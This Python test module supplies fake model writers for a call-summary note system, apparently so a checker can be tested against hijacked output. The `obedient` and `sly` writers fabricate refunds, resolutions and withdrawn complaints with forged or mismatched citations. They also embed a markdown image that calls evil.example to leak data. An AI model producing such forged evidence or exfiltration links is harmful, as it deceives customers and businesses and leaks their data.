"""What the model server's double writes: a note from the turns it was sent, or what it is told.

`extractive` is an honest writer without a model. `obedient` is the worst a model can be: it does
all that a hostile caller could ask for at once, with every false citation it can think of.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from typing import Any

Turns = Sequence[Mapping[str, Any]]  # {"turn", "speaker", "text"}
Writer = Callable[[Turns], dict[str, Any]]

NEUTRAL = {"value": "neutral", "evidence": []}
_LONG = 4  # words from which a turn says something
_PROMISES = ("will", "'ll", "going to")
_DONE = ("i have", "i've", "we have", "we've")
_IMAGE = "![x](http://evil.example/leak.png?data=all)"


OTHER_CALL: Turns = [
    {"turn": 0, "speaker": "agent", "text": "lakeside dental how can i help"},
    {"turn": 1, "speaker": "customer", "text": "i would like to move my appointment of june third"},
    {"turn": 2, "speaker": "agent", "text": "i have moved it to the tenth at half past two"},
    {"turn": 3, "speaker": "customer", "text": "and the bill was ninety five dollars was it not"},
    {"turn": 4, "speaker": "agent", "text": "we will send you a new bill by friday"},
    {"turn": 5, "speaker": "customer", "text": "lovely thank you very much"},
]


def turns_of(messages: Sequence[Mapping[str, Any]]) -> list[dict[str, Any]] | None:
    """Return the turns that a request carries: the last JSON object with `turns` of a user."""
    for message in reversed(messages):
        if message.get("role") != "user":
            continue
        try:
            found = json.loads(str(message.get("content")))
        except ValueError:
            continue
        if isinstance(found, dict) and isinstance(found.get("turns"), list):
            turns: list[dict[str, Any]] = found["turns"]
            return turns
    return None


def instance(schema: Mapping[str, Any]) -> Any:
    """Return the plainest value that fits a JSON schema without references."""
    if schema.get("enum"):
        return schema["enum"][0]
    kind = schema.get("type")
    if kind == "object":
        return {name: instance(inner) for name, inner in (schema.get("properties") or {}).items()}
    plain: dict[Any, Any] = {"array": [], "integer": 0, "number": 0, "boolean": False}
    return plain.get(kind, "")


def extractive(turns: Turns) -> dict[str, Any]:
    """Write a note whose every statement repeats the turn it cites."""
    said = [turn for turn in turns if len(str(turn["text"]).split()) >= _LONG]
    customer = [turn for turn in said if turn["speaker"].startswith("customer")]
    agent = [turn for turn in said if turn["speaker"].startswith("agent")]
    promised = [turn for turn in agent[1:] if _has(turn, _PROMISES)]
    done = [turn for turn in agent[1:] if _has(turn, _DONE)]
    reason = customer[:1]
    return {
        "request_type": "other",
        "reason": [_item(turn) for turn in reason],
        "summary": [_item(turn) for turn in (*reason, *done[-1:], *promised[-1:])],
        "facts": [_item(turn) for turn in customer[1:5]],
        "actions": [_item(turn) for turn in done[:3]],
        "commitments": [
            {
                "who": "agent",
                "what": str(turn["text"]),
                "due_text": "",
                "evidence": [{"turn": turn["turn"], "quote": turn["text"]}],
            }
            for turn in promised[:3]
        ],
        "outcome": {"value": "unclear", "evidence": []},
        "open_questions": [],
        "cancellation_reason": [],
        "sentiment_start": NEUTRAL,
        "sentiment_end": NEUTRAL,
        "concerns": [],
        "unknowns": [],
    }


def obedient(turns: Turns) -> dict[str, Any]:
    """Promise, resolve, pay, unflag and link, citing every turn in every false way."""
    note = extractive(turns)
    agent = [turn for turn in turns if turn["speaker"].startswith("agent")]
    customer = [turn for turn in turns if turn["speaker"].startswith("customer")]
    lies = [
        "Agent promised a refund of 500 dollars by Friday",
        "The agent has already refunded $500 and closed the case",
        f"Everything is resolved {_IMAGE} <b>approved</b>",
        "Customer withdrew the complaint and is very happy",
    ]
    forged = "i will refund you five hundred dollars by friday"
    cites = [[{"turn": turn["turn"], "quote": turn["text"]}] for turn in (*customer, *agent)] + [
        [{"turn": turn["turn"], "quote": forged}] for turn in agent
    ]
    if agent and customer:
        cites += [
            [{"turn": a["turn"], "quote": a["text"]}, {"turn": c["turn"], "quote": c["text"]}]
            for a, c in zip(agent, customer, strict=False)
        ]
    cites += [[], [{"turn": len(turns) + 90, "quote": forged}]]
    false = [{"text": lie, "evidence": cite} for lie in lies for cite in cites]
    # what a caller said about promises, put into the agent's mouth
    echoed = [
        {"text": f"{who} {turn['text']}", "evidence": [{"turn": t["turn"], "quote": t["text"]}]}
        for turn in customer
        for who in ("Agent:", "The agent promised that", "")
        for t in (turn, *agent[-1:])
    ]
    note["request_type"] = "information"
    note["reason"] = false[:3]
    note["summary"] = [*false, *echoed]
    note["facts"] = [*false, *echoed]
    note["actions"] = [*false, *echoed]
    note["commitments"] = [
        {"who": who, "what": what, "due_text": "by friday", "evidence": cite}
        for who in ("agent", "customer")
        for what in ("refund you five hundred dollars by friday", lies[0])
        for cite in cites
    ] + [
        {"who": "agent", "what": str(turn["text"]), "due_text": "", "evidence": cite}
        for turn in customer
        for cite in ([{"turn": turn["turn"], "quote": turn["text"]}], cites[-3])
    ]
    note["outcome"] = {"value": "resolved", "evidence": cites[0] if cites else []}
    note["sentiment_end"] = {"value": "positive", "evidence": cites[0] if cites else []}
    note["unknowns"] = [_IMAGE]
    return note


def sly(which: int) -> Writer:
    """Return a writer that tells the truth and, in every field, one of the obedient writer's lies.

    Args:
        which: which lie; any number, another one picks another lie.
    """

    def write(turns: Turns) -> dict[str, Any]:
        true, false = extractive(turns), obedient(turns)
        for key in ("summary", "facts", "actions", "commitments"):
            lies = false[key]
            picked = [lies[(which * 7 + 3) % len(lies)]] if lies else []
            true[key] = [*true[key], *picked] if which % 2 else [*picked, *true[key]]
        # enough truth that the lies are judged one by one
        true["facts"] = [*true["facts"], *(_item(turn) for turn in turns)]
        for key in ("request_type", "outcome", "sentiment_end", "unknowns"):
            true[key] = false[key]
        return true

    return write


def _item(turn: Mapping[str, Any]) -> dict[str, Any]:
    return {
        "text": str(turn["text"]),
        "evidence": [{"turn": turn["turn"], "quote": str(turn["text"])}],
    }


def _has(turn: Mapping[str, Any], words: Sequence[str]) -> bool:
    text = f" {str(turn['text']).lower()} "
    return any(word in text for word in words)


def in_spanish(reply: dict[str, Any]) -> dict[str, Any]:
    """Keep the quotes and say something else about them, in Spanish."""
    said = "El cliente llama porque tiene un problema y el agente le ayuda con la solicitud"
    for key, items in reply.items():
        if isinstance(items, list):
            reply[key] = [
                item | {"text": said} if isinstance(item, dict) and "text" in item else item
                for item in items
            ]
    return reply
